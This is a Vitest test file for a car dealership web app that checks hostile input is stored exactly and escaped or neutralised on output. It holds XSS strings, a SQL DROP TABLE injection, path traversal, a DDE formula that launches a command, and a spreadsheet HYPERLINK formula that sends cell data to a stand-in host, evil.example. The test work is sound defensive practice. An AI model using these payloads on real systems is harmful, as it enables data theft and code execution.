import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { api, signedInAs, type SignedInUser } from "../helpers/auth";
import { removeCars } from "../helpers/car-factory";
import { apiUrl, testDb } from "../helpers/db";
import { TEN_THOUSAND, expectJsonError } from "../helpers/hostile";

// Legitimate but hostile-looking text (issue "Hostile input"): `</script>`, U+2028/U+2029 and markup in a car
// and a ticket, CSV formula payloads in client names and descriptions. They are stored exactly as given and come
// out safely: the car page's JSON-LD still parses and holds the exact text, no script is added, the HTML shows
// the text escaped, and every CSV cell that a spreadsheet would run as a formula starts with '.
// Plus hostile query strings on the stock API and pages: 400 or ignored, never 500.

let gerente: SignedInUser;
const cars: string[] = [];

beforeAll(async () => {
  gerente = await signedInAs("gerente");
});

afterAll(async () => {
  await removeCars(cars);
});

const SCRIPT = "</script><script>alert(1)</script>";
const MODEL = `Civic ${SCRIPT} <!-- <b>x</b> & "aspas"`;
const DESCRIPTION = `Linha 1\u2028Linha 2\u2029Linha 3\n${SCRIPT}\n<img src=x onerror=alert(2)> </SCRIPT > <!--`;

/** Every <script type="application/ld+json"> block of a page, parsed. */
function jsonLdBlocks(html: string): unknown[] {
  const blocks = [...html.matchAll(/<script type="application\/ld\+json"[^>]*>([\s\S]*?)<\/script>/g)];
  return blocks.map((block) => JSON.parse(block[1]!));
}

async function createCarThroughApi(
  body: Record<string, unknown>,
): Promise<{ id: string; model: string; description: string }> {
  const response = await api("/api/cars", {
    method: "POST",
    json: { brand: "Honda", year: "2022", price: 150_000, mileage: 10_000, color: "Preto", ...body },
    session: gerente,
  });
  expect(response.status, await response.clone().text()).toBe(201);
  const { car } = (await response.json()) as { car: { id: string; model: string; description: string } };
  cars.push(car.id);
  return car;
}

describe("the car page with </script>, U+2028 and markup in the car's texts", () => {
  let carId = "";
  let html = "";

  beforeAll(async () => {
    const car = await createCarThroughApi({ model: MODEL, description: DESCRIPTION });
    carId = car.id;
    expect(car.model).toBe(MODEL);
    expect(car.description).toBe(DESCRIPTION);
    const stored = await testDb().car.findUniqueOrThrow({ where: { id: carId } });
    expect([stored.model, stored.description]).toEqual([MODEL, DESCRIPTION]);
    const response = await fetch(apiUrl(`/car/${carId}`));
    expect(response.status).toBe(200);
    html = await response.text();
  });

  it("keeps every JSON-LD block parseable, with the exact texts", () => {
    const blocks = jsonLdBlocks(html);
    expect(blocks.length).toBeGreaterThanOrEqual(2);
    const product = blocks.find((block) => Array.isArray((block as { "@type": unknown })["@type"])) as {
      model: string;
      description: string;
      name: string;
    };
    expect(product.model).toBe(MODEL);
    expect(product.description).toBe(DESCRIPTION);
    expect(product.name).toContain(MODEL);
  });

  it("adds no script: the markup shows escaped and never as a tag", () => {
    expect(html).not.toContain("<script>alert(1)</script>");
    expect(html).not.toContain("<img src=x onerror");
    expect(html).not.toMatch(/<b>x<\/b>/);
    // Every script element is one the app wrote: none holds the payload.
    for (const [, content] of html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)) {
      expect(content!.trim()).not.toBe("alert(1)");
    }
    // The heading shows the model as text.
    expect(html).toContain("Civic &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;");
    // No raw U+2028/U+2029 inside any script element (older parsers end a string there).
    for (const [, content] of html.matchAll(/<script\b[^>]*>([\s\S]*?)<\/script>/g)) {
      expect(content).not.toMatch(/[\u2028\u2029]/);
    }
  });

  it("lists the car on /cars and draws its Open Graph image without an error", async () => {
    const list = await fetch(apiUrl(`/cars?search=${encodeURIComponent("Civic")}`));
    expect(list.status).toBe(200);
    const listHtml = await list.text();
    expect(listHtml).not.toContain("<script>alert(1)</script>");
    for (const block of jsonLdBlocks(listHtml)) expect(block).toBeTypeOf("object");

    const image = await fetch(apiUrl(`/car/${carId}/opengraph-image`));
    expect(image.status).toBeLessThan(500);
    await image.arrayBuffer();
  });
});

describe("a ticket with </script> and U+2028", () => {
  it("is stored and listed exactly as given", async () => {
    const message = `Olá${"\u2028"}${SCRIPT}\n<img src=x onerror=alert(1)>`;
    const name = "Ana <b>Souza</b> </script>";
    const response = await api("/api/contact-tickets", {
      method: "POST",
      json: { name, email: "ana@example.com", phone: "(11) 98765-4321", message },
    });
    expect(response.status).toBe(201);
    const { ticket } = (await response.json()) as { ticket: { id: string } };
    const listed = await api("/api/contact-tickets", { session: gerente });
    const { tickets } = (await listed.json()) as {
      tickets: Array<{ id: string; name: string; message: string }>;
    };
    expect(tickets.find((item) => item.id === ticket.id)).toMatchObject({ name, message });
  });
});

// ---------------------------------------------------------------------------------------------------------------

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
  "+1",
  "-2+3",
  "@SUM(1)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

/** The cells of a CSV line written by lib/csv/writer (every cell quoted, ';' between them). */
function cells(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((match) => match[1]!.replaceAll('""', '"'));
}

/** Rows of an export: BOM stripped, split on CRLF outside quotes. */
function rows(csv: string): string[][] {
  const text = csv.replace(/^\uFEFF/, "");
  const lines: string[] = [];
  let current = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (char === '"') quoted = !quoted;
    if (!quoted && char === "\r" && text[i + 1] === "\n") {
      lines.push(current);
      current = "";
      i++;
      continue;
    }
    current += char;
  }
  if (current) lines.push(current);
  return lines.map(cells);
}

const DANGEROUS_START = /^[=+\-@\t\r]/;

function expectNoFormulaCell(csv: string, label: string) {
  for (const row of rows(csv)) {
    for (const cell of row) expect(cell, `${label}: ${JSON.stringify(cell)}`).not.toMatch(DANGEROUS_START);
  }
}

describe("CSV formula payloads", () => {
  let carId = "";

  beforeAll(async () => {
    carId = (await createCarThroughApi({ model: "=1+1 Modelo" })).id;
  });

  it("are stored as given (trimmed) and exported prefixed with ' in sales", async () => {
    for (const payload of FORMULAS) {
      const response = await api("/api/sales", {
        method: "POST",
        json: {
          carId,
          clientName: payload,
          clientPhone: "(11) 98765-4321",
          salePrice: 100_000,
          paymentMethod: "cash",
          paymentDetails: payload,
          salesperson: payload,
          saleDate: "2026-01-10",
          notes: payload,
        },
        session: gerente,
      });
      expect(response.status, `${JSON.stringify(payload)}: ${await response.clone().text()}`).toBe(201);
      const { sale } = (await response.json()) as { sale: { clientName: string; notes: string } };
      expect(sale.clientName).toBe(payload.trim());
      expect(sale.notes).toBe(payload.trim());
    }
    const csv = await (await api("/api/exports/sales", { session: gerente })).text();
    expectNoFormulaCell(csv, "sales");
    for (const payload of FORMULAS) expect(csv).toContain(`"'${payload.trim().replaceAll('"', '""')}"`);
  });

  it("are exported prefixed with ' in expenses (description and receipt name) and invoices", async () => {
    for (const payload of FORMULAS) {
      const form = new FormData();
      form.set("description", payload);
      form.set("amount", "10");
      form.set("category", "other");
      form.set("date", "2026-01-10");
      form.set(
        "receipt",
        new Blob([Buffer.from("%PDF-1.4\n%%EOF\n")], { type: "application/pdf" }),
        `${payload.trim().replaceAll("/", "")}.pdf`,
      );
      const expense = await api("/api/expenses", { method: "POST", body: form, session: gerente });
      expect(expense.status, `${JSON.stringify(payload)}: ${await expense.clone().text()}`).toBe(201);

      const invoice = await api("/api/invoices", {
        method: "POST",
        json: {
          type: "sale",
          clientName: payload,
          clientDocument: "52998224725",
          amount: 10,
          issueDate: "2026-01-10",
          description: payload,
        },
        session: gerente,
      });
      expect(invoice.status, `${JSON.stringify(payload)}: ${await invoice.clone().text()}`).toBe(201);
    }
    expectNoFormulaCell(await (await api("/api/exports/expenses", { session: gerente })).text(), "expenses");
    expectNoFormulaCell(await (await api("/api/exports/invoices", { session: gerente })).text(), "invoices");
  });
});

// ---------------------------------------------------------------------------------------------------------------

describe("hostile query strings", () => {
  it("GET /api/cars answers a non-numeric or overflowing bound with 400", async () => {
    for (const query of [
      "priceFrom=abc",
      "yearFrom=1e999",
      "mileageTo=NaN",
      "priceTo=Infinity",
      "yearTo=-1",
      "priceFrom=0x10",
      "priceFrom=%00",
      "isTurbo=talvez",
      "status=..%2F..%2Fetc",
    ]) {
      const response = await api(`/api/cars?${query}`);
      await expectJsonError(response, 400, query);
    }
  });

  it("GET /api/cars answers a 10,000-character search with 400, and ignores repeats and unknown keys", async () => {
    await expectJsonError(await api(`/api/cars?search=${"a".repeat(10_000)}`), 400, "long search");
    for (const query of [
      "brand=Honda&brand=Toyota&brand=%00",
      "search=%3Cscript%3E&search=x",
      "__proto__[x]=1&constructor=1",
      "search=%E0%A4%A",
      "priceFrom=" + "9".repeat(400),
      "a".repeat(5_000) + "=1",
      "search=" + encodeURIComponent('\'; DROP TABLE "Car";--'),
    ]) {
      const response = await api(`/api/cars?${query}`);
      expect(response.status, query.slice(0, 80)).toBe(200);
      expect(await response.json()).toMatchObject({ cars: expect.any(Array), total: expect.any(Number) });
    }
    expect(await testDb().car.count()).toBeGreaterThan(0);
  });

  it("/cars ignores what it cannot read and escapes what it shows", async () => {
    for (const query of [
      "priceFrom=abc&yearFrom=1e999",
      `search=${encodeURIComponent(SCRIPT)}`,
      `search=${"a".repeat(10_000)}`,
      "brand=%00&model=%E0%A4%A",
    ]) {
      const response = await fetch(apiUrl(`/cars?${query}`));
      expect(response.status, query.slice(0, 80)).toBe(200);
      const html = await response.text();
      expect(html).not.toContain("<script>alert(1)</script>");
    }
  });

  it("a URL beyond Node's 16 KB header limit is refused with 431 before the app runs, never a 500", async () => {
    // 10,000 "Á" percent-encoded are 60 KB of request line: Node's HTTP parser answers 431 (empty body) before
    // Next.js or any route sees the request, so no JSON error can be given there.
    for (const path of [
      `/api/cars?search=${encodeURIComponent(TEN_THOUSAND)}`,
      `/cars?search=${encodeURIComponent(TEN_THOUSAND)}`,
    ]) {
      const response = await fetch(apiUrl(path));
      expect(response.status).toBe(431);
      await response.arrayBuffer();
    }
    expect((await fetch(apiUrl("/api/health"))).status).toBe(200);
  });

  it("routes that take no query ignore one", async () => {
    for (const path of [
      "/api/sales?id=%00&__proto__=1",
      "/api/exports/sales?x=%E0%A4%A",
      "/api/reports/summary?from=1e999",
      "/api/health?x=" + "a".repeat(5_000),
    ]) {
      const response = await api(path, { session: gerente });
      expect(response.status, path.slice(0, 60)).toBe(200);
      await response.arrayBuffer();
    }
  });
});
